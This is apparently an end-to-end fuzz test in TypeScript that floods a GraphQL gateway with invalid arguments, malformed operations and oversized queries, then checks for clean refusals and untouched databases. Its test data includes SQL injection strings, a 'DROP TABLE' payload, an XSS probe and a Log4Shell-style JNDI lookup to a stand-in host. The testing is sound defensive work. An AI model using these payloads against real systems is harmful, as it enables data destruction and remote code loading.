import {
  type GraphQLInputType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
} from 'graphql';
import type { DataSource } from 'typeorm';
import { ArgumentMaker, operationFor, rootFields, seedIdPool } from '../operations';
import { startTestStack, type TestStack } from '../stack';
import { recordFigures } from './figures';

/**
 * A fuzz run through the gateway, generated from the committed supergraph with a seeded
 * random generator, so that a failure reproduces (FUZZ_SEED): every argument of every root
 * field gets invalid values of its type, and operations come malformed and oversized. No
 * answer may be a 5xx or an INTERNAL_SERVER_ERROR, every refusal must say what it refused,
 * and a refused mutation must leave every subgraph's database as it was.
 */

const SEED = Number(process.env.FUZZ_SEED ?? 20261125);
const MINIMUM_REQUESTS = 5_000;
const NOW = Date.now();

/** The codes a refusal may carry: the API's own (packages/platform/src/errors.ts), the
 * GraphQL server's and the gateway's limits. */
const REFUSAL_CODES = new Set([
  'BAD_USER_INPUT',
  'NOT_FOUND',
  'CONFLICT',
  'FORBIDDEN',
  'UNAUTHENTICATED',
  'BAD_REQUEST',
  'GRAPHQL_PARSE_FAILED',
  'GRAPHQL_VALIDATION_FAILED',
  'OPERATION_RESOLUTION_FAILURE',
  'PERSISTED_QUERY_NOT_FOUND',
  'PAYLOAD_TOO_LARGE',
]);

/** A request as sent: the body is raw, so that malformed ones can be sent too. */
interface FuzzRequest {
  category: 'argument' | 'malformed' | 'oversized';
  /** What the request tries, for the failure report. */
  label: string;
  method?: 'GET' | 'POST';
  body: string;
  contentType?: string;
  /** The root mutation field it runs, when its database effect must be checked. */
  mutation?: string;
}

interface Answer {
  status: number;
  body: { data?: Record<string, unknown> | null; errors?: GraphQLErrorShape[] } | null;
  text: string;
}

interface GraphQLErrorShape {
  message?: unknown;
  extensions?: { code?: unknown; field?: unknown };
}

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE customers; --",
  '%',
  '_%\\',
  '") { __typename } #',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
];

/** Any code point but the surrogates, which JSON would send as lone halves. */
function randomText(maker: ArgumentMaker, length: number): string {
  return Array.from({ length }, () => {
    const codePoint = maker.below(0x10ffff - 0x800);
    return String.fromCodePoint(codePoint >= 0xd800 ? codePoint + 0x800 : codePoint);
  }).join('');
}

/** Values of the type that the API must refuse, or at least survive, with a label each. */
function invalidValues(
  maker: ArgumentMaker,
  type: GraphQLInputType,
  name: string,
  root: string,
): [string, unknown][] {
  const values: [string, unknown][] = [['null', null]];
  if (isNonNullType(type)) {
    const inner = invalidValues(maker, type.ofType, name, root).filter(
      ([label]) => label !== 'null',
    );
    return [...values, ...inner];
  }
  if (isListType(type)) {
    const element = maker.plausible(type.ofType, name, root);
    return [
      ...values,
      ['an empty list', []],
      ['a list holding null', [null]],
      ['a list of 1,000', Array.from({ length: 1_000 }, () => element)],
      ['a list nested in a list', [[element]]],
    ];
  }
  if (isEnumType(type)) {
    const valid = maker.pick(type.getValues()).name;
    return [
      ...values,
      ['an unknown enum value', 'NOT_A_VALUE'],
      ['an enum value in lower case', valid.toLowerCase()],
      ['a number for an enum', 7],
    ];
  }
  if (isInputObjectType(type)) {
    const object = maker.plausible(type, name, root) as Record<string, unknown>;
    return [
      ...values,
      ['a string for an input object', 'not an object'],
      ['an empty input object', {}],
      ['an unknown field', { ...object, unknownField: 1 }],
    ];
  }
  switch (type.name) {
    case 'String':
      return [
        ...values,
        ['an empty string', ''],
        ['blanks', '   '],
        ['10,000 characters', 'x'.repeat(10_000)],
        ['a NUL character', 'a\u0000b'],
        ['an injection', maker.pick(INJECTIONS)],
        ['random unicode', randomText(maker, 1 + maker.below(40))],
        ['a number for a string', 12],
      ];
    case 'ID':
      return [
        ...values,
        ['an empty id', ''],
        ['a malformed id', 'not-an-id'],
        ['an unknown id', '00000000-0000-4000-8000-000000000000'],
        ['an id of 10,000 characters', 'i'.repeat(10_000)],
        ['an injection', maker.pick(INJECTIONS)],
        ['a NUL character', `${maker.idFor(name, root)}\u0000`],
        ['an object for an id', { id: maker.idFor(name, root) }],
      ];
    case 'Int':
      return [
        ...values,
        ['a negative', -1 - maker.below(1_000)],
        ['zero', 0],
        ['past 32 bits', 2 ** 31],
        ['a fraction', 1.5],
        ['NaN', 'NaN'],
        ['a huge count', 1_000_000_000],
      ];
    case 'Float':
      return [
        ...values,
        ['a negative', -1 - maker.below(1_000) / 10],
        ['NaN', 'NaN'],
        ['Infinity', 'Infinity'],
        ['1e308', 1e308],
        ['-1e308', -1e308],
      ];
    case 'Boolean':
      return [...values, ['a string for a boolean', 'yes'], ['a number for a boolean', 0]];
    case 'DateTime':
      return [
        ...values,
        ['an empty date', ''],
        ['words for a date', 'next tuesday'],
        ['an impossible date', '2026-02-30T10:00:00Z'],
        ['a date without its zone', '2026-11-25T10:00:00'],
        ['the far future', '9999-12-31T23:59:59Z'],
        ['the far past', '0001-01-01T00:00:00Z'],
        ['beyond JavaScript dates', '+275760-09-14T00:00:00.000Z'],
        ['a number for a date', NOW],
      ];
    case 'LocalDate':
      return [
        ...values,
        ['an empty date', ''],
        ['an impossible date', '2026-13-40'],
        ['a time for a date', '2026-11-25T10:00:00Z'],
        ['the far future', '9999-12-31'],
        ['the far past', '0001-01-01'],
        ['a number for a date', 20261125],
      ];
    default:
      throw new Error(`The fuzz cannot spoil a ${type.name}; teach invalidValues()`);
  }
}

/** Every place in the arguments a value can go, the optional ones included. */
interface Slot {
  path: (string | number)[];
  type: GraphQLInputType;
  name: string;
}

function slotsOf(type: GraphQLInputType, path: Slot['path'], name: string): Slot[] {
  const slot: Slot = { path, type, name };
  const named = isNonNullType(type) ? type.ofType : type;
  if (isListType(named)) return [slot, ...slotsOf(named.ofType, [...path, 0], name)];
  if (isInputObjectType(named)) {
    return [
      slot,
      ...Object.values(named.getFields()).flatMap((field) =>
        slotsOf(field.type, [...path, field.name], field.name),
      ),
    ];
  }
  return [slot];
}

/** The arguments with `value` put at `path`, making the objects and lists on the way. */
function withValue(args: Record<string, unknown>, path: Slot['path'], value: unknown) {
  const copy = structuredClone(args);
  let holder: Record<string | number, unknown> = copy;
  for (const [index, key] of path.entries()) {
    if (index === path.length - 1) {
      holder[key] = value;
      break;
    }
    const next = holder[key];
    if (typeof next !== 'object' || next === null) {
      holder[key] = typeof path[index + 1] === 'number' ? [] : {};
    }
    holder = holder[key] as Record<string | number, unknown>;
  }
  return copy;
}

/** For every argument of every root field, each invalid value in turn, the others plausible. */
function argumentRequests(maker: ArgumentMaker): FuzzRequest[] {
  return rootFields().flatMap((root) => {
    const { kind, field } = root;
    const text = operationFor(root);
    return field.args.flatMap((argument) =>
      slotsOf(argument.type, [argument.name], argument.name).flatMap((slot) =>
        invalidValues(maker, slot.type, slot.name, field.name).map(([what, value]) => ({
          category: 'argument' as const,
          label: `${field.name}: ${slot.path.join('.')} = ${what}`,
          body: JSON.stringify({
            query: text,
            variables: withValue(
              maker.plausibleArguments(field.args, field.name),
              slot.path,
              value,
            ),
          }),
          ...(kind === 'mutation' && { mutation: field.name }),
        })),
      ),
    );
  });
}

/** Each root field's operation spoilt in the ways a hand or a broken client spoils one. */
function malformedRequests(maker: ArgumentMaker): FuzzRequest[] {
  const spoilt = rootFields().flatMap((root) => {
    const { kind, field } = root;
    const text = operationFor(root);
    const variables = maker.plausibleArguments(field.args, field.name);
    const cut = 1 + maker.below(text.length - 1);
    const at = maker.below(text.length);
    const versions: [string, string][] = [
      ['cut short', text.slice(0, cut)],
      ['a character dropped', text.slice(0, at) + text.slice(at + 1)],
      [
        'a stray character',
        `${text.slice(0, at)}${maker.pick([...'{}()[]:$@!"#.=|&'])}${text.slice(at)}`,
      ],
      ['an unknown field', text.replace(`${field.name}`, `${field.name}Unknown`)],
      ['an unknown argument', text.replace(`${field.name}`, `${field.name}(unknownArgument: 1)`)],
      ['an undeclared variable', text.replace(/\$(\w+)\)/, '$undeclared)')],
      ['the selection left out', text.replace(/ \{ .* \}\n/, '\n')],
      ['a subfield of a scalar', text.replace(/ \{ (\w+)/, ' { $1 { id }')],
      [
        'a literal of the wrong type',
        field.args.length
          ? text.replace(`${field.args[0]!.name}: $`, `${field.args[0]!.name}: { wrong: 1 }, x: $`)
          : `${text}\n${text}`,
      ],
    ];
    return versions.map(([what, query]) => ({
      category: 'malformed' as const,
      label: `${field.name}: ${what}`,
      body: JSON.stringify({ query, variables }),
      ...(kind === 'mutation' && { mutation: field.name }),
    }));
  });
  const raw = (label: string, body: string, extra: Partial<FuzzRequest> = {}): FuzzRequest => ({
    category: 'malformed',
    label,
    body,
    ...extra,
  });
  const typename = (body: object) => JSON.stringify({ query: '{ __typename }', ...body });
  return [
    ...spoilt,
    raw('an empty body', ''),
    raw('a body that is not JSON', 'query { customers { totalCount } }'),
    raw('a JSON array of nothing', '[]'),
    raw('a JSON string', '"{ __typename }"'),
    raw('a query that is a number', JSON.stringify({ query: 42 })),
    raw('a query that is null', JSON.stringify({ query: null })),
    raw('no query', JSON.stringify({ variables: {} })),
    raw('variables that are a string', typename({ variables: 'x' })),
    raw('variables that are a list', typename({ variables: [1] })),
    raw('an operation name that is a number', typename({ operationName: 5 })),
    raw('an operation name that is not in the document', typename({ operationName: 'Other' })),
    raw('extensions that are a string', typename({ extensions: 'x' })),
    raw(
      'two operations and no name',
      JSON.stringify({ query: 'query A { __typename } query B { __typename }' }),
    ),
    raw(
      'two operations of one name',
      JSON.stringify({ query: 'query A { __typename } query A { __typename }' }),
    ),
    raw(
      'a fragment that spreads itself',
      JSON.stringify({ query: '{ ...F } fragment F on Query { ...F }' }),
    ),
    raw('an unknown directive', JSON.stringify({ query: '{ __typename @unknown }' })),
    raw('@skip without its argument', JSON.stringify({ query: '{ __typename @skip }' })),
    raw('a subscription over HTTP', JSON.stringify({ query: 'subscription { __typename }' })),
    raw('a mutation over GET', '', {
      method: 'GET',
      label: 'a mutation over GET',
      body: `?query=${encodeURIComponent('mutation { registerService(input: {name: "get", owner: "o", lifecycle: LIVE}) { id } }')}`,
      mutation: 'registerService',
    }),
    raw('a text/plain body', typename({}), { contentType: 'text/plain' }),
    raw('a form body', 'query=%7B__typename%7D', {
      contentType: 'application/x-www-form-urlencoded',
    }),
    raw(
      'a persisted query hash that was never sent',
      JSON.stringify({
        extensions: { persistedQuery: { version: 1, sha256Hash: 'f'.repeat(64) } },
      }),
    ),
    raw(
      'an unknown persisted query version',
      JSON.stringify({
        extensions: { persistedQuery: { version: 9, sha256Hash: 'f'.repeat(64) } },
      }),
    ),
  ];
}

/** Operations past each of the gateway's limits. */
function oversizedRequests(): FuzzRequest[] {
  const nested = (levels: number) => {
    let selection = 'id';
    for (let level = 0; level < levels; level += 1) {
      selection = `agreements { customer { ${selection} } }`;
    }
    return `{ customers(first: 1) { edges { node { ${selection} } } } }`;
  };
  const aliases = (count: number) =>
    `{ ${Array.from({ length: count }, (_, index) => `a${index}: __typename`).join(' ')} }`;
  const request = (label: string, body: object): FuzzRequest => ({
    category: 'oversized',
    label,
    body: JSON.stringify(body),
  });
  return [
    ...[10, 20, 50, 200].map((levels) =>
      request(`nested ${levels} levels deep`, { query: nested(levels) }),
    ),
    ...[200, 2_000, 20_000].map((count) => request(`${count} aliases`, { query: aliases(count) })),
    ...[50, 500].map((count) =>
      request(`${count} wide lists`, {
        query: `{ ${Array.from({ length: count }, (_, index) => `c${index}: customers(first: 100) { edges { node { id name agreements { id } } } }`).join(' ')} }`,
      }),
    ),
    request('a string literal of 2 MB', {
      query: `{ customer(id: "${'x'.repeat(2_000_000)}") { id } }`,
    }),
    request('variables of 2 MB', {
      query: 'query ($id: ID!) { customer(id: $id) { id } }',
      variables: { id: 'x'.repeat(2_000_000) },
    }),
    request('100,000 tokens', { query: `{ ${'__typename '.repeat(100_000)}}` }),
    request('a list of 200,000 ids', {
      query: 'query ($ids: [ID!]!) { _entities(representations: $ids) { __typename } }',
      variables: { ids: Array.from({ length: 200_000 }, (_, index) => String(index)) },
    }),
    request('10,000 nested brackets', { query: `${'{'.repeat(10_000)}${'}'.repeat(10_000)}` }),
    request('100,000 directives', {
      query: `{ __typename ${'@include(if: true) '.repeat(100_000)}}`,
    }),
  ];
}

/** Each table's rows, hashed in PostgreSQL: equal before and after means nothing was written. */
async function tableHashes(dataSource: DataSource): Promise<Map<string, string>> {
  const tables: { tablename: string }[] = await dataSource.query(
    `SELECT tablename FROM pg_tables WHERE schemaname = current_schema() ORDER BY tablename`,
  );
  const rows: { name: string; hash: string }[] = await dataSource.query(
    tables
      .map(
        ({ tablename }) =>
          `SELECT '${tablename}' AS name, md5(coalesce(string_agg(r::text, '|' ORDER BY r::text), '')) AS hash FROM "${tablename}" r`,
      )
      .join(' UNION ALL '),
  );
  return new Map(rows.map(({ name, hash }) => [name, hash]));
}

/** The tables whose rows differ between two fingerprints. */
const changedTables = (before: Map<string, string>, after: Map<string, string>) =>
  [...after].filter(([table, hash]) => before.get(table) !== hash).map(([table]) => table);

describe('a generated fuzz run through the gateway', () => {
  let stack: TestStack;
  let maker: ArgumentMaker;
  let token: string;

  beforeAll(async () => {
    stack = await startTestStack();
    maker = new ArgumentMaker(SEED, await seedIdPool(stack, 'FUZZ'), NOW);
    token = await stack.tokenFor({ roles: ['ADMIN'], subject: 'fuzz' });
  }, 120_000);
  afterAll(() => stack?.stop());

  async function send(request: FuzzRequest): Promise<Answer> {
    const url =
      request.method === 'GET' ? `${stack.gateway.url}${request.body}` : stack.gateway.url;
    const response = await fetch(url, {
      method: request.method ?? 'POST',
      headers: {
        authorization: `Bearer ${token}`,
        'content-type': request.contentType ?? 'application/json',
        // Apollo Server's CSRF prevention wants this on a GET or a simple POST.
        'apollo-require-preflight': 'true',
      },
      ...(request.method !== 'GET' && { body: request.body }),
    });
    const text = await response.text();
    let body: Answer['body'] = null;
    try {
      body = JSON.parse(text);
    } catch {
      // Reported below as an answer that is not JSON.
    }
    return { status: response.status, body, text };
  }

  /** What is wrong with the answer, if anything. */
  function faultOf(answer: Answer): string | undefined {
    if (answer.status >= 500) return `HTTP ${answer.status}`;
    if (answer.body === null || typeof answer.body !== 'object')
      return 'an answer that is not JSON';
    const errors = answer.body.errors ?? [];
    if (answer.status >= 400 && errors.length === 0) return `HTTP ${answer.status} without errors`;
    for (const error of errors) {
      const code = error.extensions?.code;
      if (code === 'INTERNAL_SERVER_ERROR') return `INTERNAL_SERVER_ERROR: ${error.message}`;
      if (typeof code !== 'string') return `an error without a code: ${error.message}`;
      if (!REFUSAL_CODES.has(code)) return `an unexpected code ${code}: ${error.message}`;
      if (typeof error.message !== 'string' || error.message.length < 10) {
        return `${code} with no cause given: ${String(error.message)}`;
      }
      // A refused value names the field or the variable it was in.
      const named =
        typeof error.extensions?.field === 'string' ||
        /\$\w+|"\w+"|\b[a-z]+[A-Z]\w*\b/.test(error.message);
      if (code === 'BAD_USER_INPUT' && !named)
        return `BAD_USER_INPUT naming no field: ${error.message}`;
    }
    return undefined;
  }

  it(`sends at least ${MINIMUM_REQUESTS.toLocaleString('en')} requests, and each is answered cleanly`, async () => {
    const dataSources = Object.values(stack.subgraphs).map((subgraph) => subgraph.dataSource);
    const fingerprint = async () => {
      const hashes = await Promise.all(dataSources.map(tableHashes));
      return new Map(
        hashes.flatMap((tables, index) =>
          [...tables].map(([table, hash]) => [
            `${Object.keys(stack.subgraphs)[index]}.${table}`,
            hash,
          ]),
        ),
      );
    };
    /** Waits until every relay has handed on what its subgraph wrote, and every consumer has
     * applied it: the in-process bus marks an entry sent only once each consumer committed. */
    const settled = async () => {
      for (;;) {
        const unsent = await Promise.all(
          dataSources.map(async (dataSource) => {
            const [row] = await dataSource.query(
              'SELECT count(*)::int AS unsent FROM event_outbox WHERE sent_at IS NULL',
            );
            return row.unsent as number;
          }),
        );
        if (unsent.every((count) => count === 0)) return fingerprint();
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    };

    const requests: FuzzRequest[] = [...malformedRequests(maker), ...oversizedRequests()];
    while (requests.length < MINIMUM_REQUESTS) requests.push(...argumentRequests(maker));

    /** Each kind of fault, with how often it came and the first request that met it. */
    const faults = new Map<string, { count: number; first: string }>();
    const writtenByRefusals: string[] = [];
    const counts = {
      requests: 0,
      mutations: 0,
      refusedMutations: 0,
      acceptedMutations: 0,
      acceptedThatWrote: 0,
      serverErrors: 0,
    };
    const byCategory: Record<string, number> = {};
    const byCode: Record<string, number> = {};
    let before = await settled();
    for (const request of requests) {
      const answer = await send(request);
      counts.requests += 1;
      byCategory[request.category] = (byCategory[request.category] ?? 0) + 1;
      for (const error of answer.body?.errors ?? []) {
        const code = String(error.extensions?.code);
        byCode[code] = (byCode[code] ?? 0) + 1;
      }
      if (answer.status >= 500 || answer.text.includes('INTERNAL_SERVER_ERROR'))
        counts.serverErrors += 1;
      const fault = faultOf(answer);
      if (fault) {
        const kind = faults.get(fault) ?? {
          count: 0,
          first: `${request.label}: sent ${request.body.slice(0, 300)}`,
        };
        faults.set(fault, { ...kind, count: kind.count + 1 });
      }
      if (!request.mutation) continue;
      counts.mutations += 1;
      const result = answer.body?.data?.[request.mutation];
      if (result !== undefined && result !== null) {
        counts.acceptedMutations += 1;
        const next = await settled();
        if (changedTables(before, next).length > 0) counts.acceptedThatWrote += 1;
        before = next;
        continue;
      }
      counts.refusedMutations += 1;
      const after = await fingerprint();
      const changed = changedTables(before, after);
      if (changed.length > 0) {
        writtenByRefusals.push(`${request.label} wrote ${changed.join(', ')}`);
        before = await settled();
      }
    }
    console.info(`fuzz seed=${SEED} ${JSON.stringify({ ...counts, byCategory, byCode })}`);
    expect(
      [...faults].map(([fault, { count, first }]) => `${count}× ${fault}\n  first: ${first}`),
    ).toEqual([]);
    expect(writtenByRefusals.slice(0, 25)).toEqual([]);
    expect(counts.serverErrors).toBe(0);
    expect(counts.requests).toBeGreaterThanOrEqual(MINIMUM_REQUESTS);
    // The run reached the services' own rules, not only the gateway's validation.
    expect(byCode.NOT_FOUND).toBeGreaterThan(0);
    // The fingerprint saw what accepted mutations wrote, so it would see a refused one's.
    expect(counts.acceptedThatWrote).toBeGreaterThan(0);
    recordFigures({
      id: 'fuzz',
      title: `A generated fuzz run of ${counts.requests.toLocaleString('en')} requests through the gateway`,
      file: 'packages/e2e/src/reliability/fuzz.e2e.spec.ts',
      mutationsRun: counts.mutations,
      eventsExpected: null,
      eventsSeen: null,
      duplicates: null,
      leaks: null,
      serverErrors: counts.serverErrors,
      details: {
        seed: SEED,
        requests: counts.requests,
        'invalid argument values': byCategory.argument ?? 0,
        'malformed operations and bodies': byCategory.malformed ?? 0,
        'oversized operations': byCategory.oversized ?? 0,
        'mutations refused': counts.refusedMutations,
        'mutations accepted (a value that was valid after all)': counts.acceptedMutations,
        'refused mutations that changed a database': writtenByRefusals.length,
        'answers without a clean, named refusal': [...faults.values()].reduce(
          (sum, { count }) => sum + count,
          0,
        ),
        ...Object.fromEntries(
          Object.entries(byCode)
            .sort(([a], [b]) => a.localeCompare(b))
            .map(([code, count]) => [`errors ${code}`, count]),
        ),
      },
    });
  }, 900_000);
});
